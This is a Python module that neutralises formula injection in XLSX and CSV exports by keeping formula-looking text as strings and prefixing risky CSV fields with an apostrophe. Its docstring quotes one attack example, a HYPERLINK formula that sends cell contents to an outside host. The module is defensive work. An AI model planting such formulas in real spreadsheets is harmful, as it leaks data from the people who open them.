"""Spreadsheets that cannot run what people typed.

A name or a note that starts with "=" (or "+", "-", "@") is a formula to Excel and WPS: a
member could plant `=HYPERLINK("http://…?"&B2&C2, "Details")` in a leader's export. Every
text cell is written as text — in XLSX as a string cell, never a formula; in CSV with a
leading apostrophe, as OWASP's CSV-injection advice says — and numbers, dates and empty
cells are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl (~9 MB) is imported by an export, not at start-up
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

# What spreadsheet programs take as the start of a formula (OWASP: also tab and CR).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def text_safe_cell(sheet: WriteOnlyWorksheet, value: Any,
                   number_format: str | None = None) -> Cell:
    """A write-only cell; a text value that looks like a formula stays text."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if cell.data_type == "f":
        cell.data_type = "s"
    if number_format is not None and value is not None:
        cell.number_format = number_format
    return cell


def write_only_value(sheet: WriteOnlyWorksheet, value: Any,
                     number_format: str | None = None) -> Any:
    """What to append for `value`: the value itself when openpyxl writes it as it is (a
    cell per value costs a third of a big export's time), else a `text_safe_cell`."""
    if (number_format is not None and value is not None) or (
            isinstance(value, str) and value.startswith("=")):  # openpyxl's formula test
        return text_safe_cell(sheet, value, number_format)
    return value


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Sequence[Any]) -> None:
    """Append a row; a text value that looks like a formula stays text."""
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    if isinstance(sheet, WriteOnlyWorksheet):
        sheet.append([text_safe_cell(sheet, v) for v in values])
        return
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"


def csv_value(value: Any) -> Any:
    """A CSV field: text that a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return "" if value is None else value


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """Rows as UTF-8 CSV with a BOM (so Excel and WPS read Chinese), every field quoted when
    needed and neutralised as `csv_value` says."""
    out = io.StringIO(newline="")
    # CRLF, as RFC 4180 and Excel want; a field holding CR or LF is then always quoted.
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_value(v) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")
